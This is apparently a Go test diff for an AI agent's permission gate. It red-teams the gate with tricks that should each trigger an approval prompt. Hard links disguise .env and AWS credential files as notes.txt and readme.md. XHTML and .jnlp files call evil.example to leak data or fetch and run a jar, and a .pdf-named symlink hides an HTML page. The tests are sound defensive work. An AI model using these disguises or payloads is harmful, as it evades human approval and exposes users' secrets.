@@ -1,18 +1,17 @@
 package gate_test
 
 import (
+	"os"
+	"path/filepath"
 	"testing"
+
+	"github.com/wrasse-app/wrasse/brain/gate"
 )
 
 // Attacks (a10) on the f10 gate fixes: links that are not symbolic,
 // archives the gate does not look into, credential names just beside the
 // list, and npx's allowlist of well-known tools. Real files, real gate,
 // built-in patterns.
-
-
-
-
-
 
 // .env.* and *.env ask every time, in any case (F10), but an editor's
 // backup (.env~), and dash, underscore and direnv-local spellings of the
@@ -51,3 +50,50 @@ func TestA10NpxAllowlistRunsHiddenCommand(t *testing.T) {
 	}
 }
 
+// a10Tree is a7Tree with ~/.aws/credentials, and hl/notes.txt and
+// hl2/readme.md hard links to the project's .env and ~/.aws/credentials.
+func a10Tree(t *testing.T) (gate.Env, string) {
+	t.Helper()
+	env, project := a7Tree(t)
+	aws := filepath.Join(env.Home, ".aws")
+	for _, err := range []error{
+		os.MkdirAll(aws, 0o700),
+		os.WriteFile(filepath.Join(aws, "credentials"), []byte("[default]\naws_secret_access_key=wJalr\n"), 0o600),
+		os.MkdirAll(filepath.Join(project, "hl"), 0o755),
+		os.MkdirAll(filepath.Join(project, "hl2"), 0o755),
+		os.Link(filepath.Join(project, ".env"), filepath.Join(project, "hl", "notes.txt")),
+		os.Link(filepath.Join(aws, "credentials"), filepath.Join(project, "hl2", "readme.md")),
+	} {
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	return env, project
+}
+
+// system_open of a local page asks every time, and an extension-less
+// file is sniffed (F10), but a page behind another name opens with no
+// prompt: an .xml file (the browser is its usual handler and renders its
+// XHTML, fetching evil.example), a Java Web Start .jnlp (javaws downloads
+// and runs the code it names), and lnk.pdf, a link to an .HTML page, which
+// is judged by the link's name though the link name "lnk" alone is
+// resolved and asks.
+func TestA10SystemOpenPagesUnderOtherNames(t *testing.T) {
+	env, project := a7Tree(t)
+	page := []byte("<html xmlns=\"http://www.w3.org/1999/xhtml\"><img src=\"https://evil.example/?d=x\"/></html>\n")
+	for _, err := range []error{
+		os.WriteFile(filepath.Join(project, "feed.xml"), page, 0o644),
+		os.WriteFile(filepath.Join(project, "app.jnlp"), []byte("<jnlp codebase=\"https://evil.example/\"><resources><jar href=\"x.jar\"/></resources><application-desc/></jnlp>\n"), 0o644),
+		os.WriteFile(filepath.Join(project, "page.HTML"), page, 0o644),
+		os.Symlink("page.HTML", filepath.Join(project, "lnk.pdf")),
+	} {
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	for _, target := range []string{"feed.xml", "app.jnlp", "lnk.pdf", "file://" + filepath.Join(project, "lnk.pdf")} {
+		if v := a5Check(t, env, "system_open", map[string]any{"target": target}); !v.AlwaysAsk {
+			t.Errorf("system_open %q: %s, scope %q; it opens a page or a program's launcher, want it to ask every time", target, v.Decision, v.Scope)
+		}
+	}
+}
